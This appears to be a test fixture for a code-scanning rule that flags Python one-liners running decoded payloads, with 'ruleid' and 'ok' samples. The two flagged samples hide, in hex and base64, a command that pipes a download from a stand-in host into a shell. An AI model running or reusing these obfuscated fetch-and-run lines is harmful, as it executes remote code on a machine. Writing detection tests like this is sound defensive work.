#!/bin/sh
# Annotated samples: interpreters' inline code is read by the code engines (inert, never run).

# ruleid: py-exec-decoded-payload
python3 -c "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28226375726c202d732068747470733a2f2f64726f702e6578616d706c652e636f6d2f79207c2073682229').decode())"
# ruleid: py-exec-decoded-payload
python -c "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL2Ryb3AuZXhhbXBsZS5jb20veCB8IHNoIik='))"

# near misses: inline code that prints, decodes without running
# ok: py-exec-decoded-payload
python3 -c "import sys; print(sys.version)"
# ok: py-exec-decoded-payload
python3 -c "import base64; print(base64.b64decode('aGVsbG8='))"
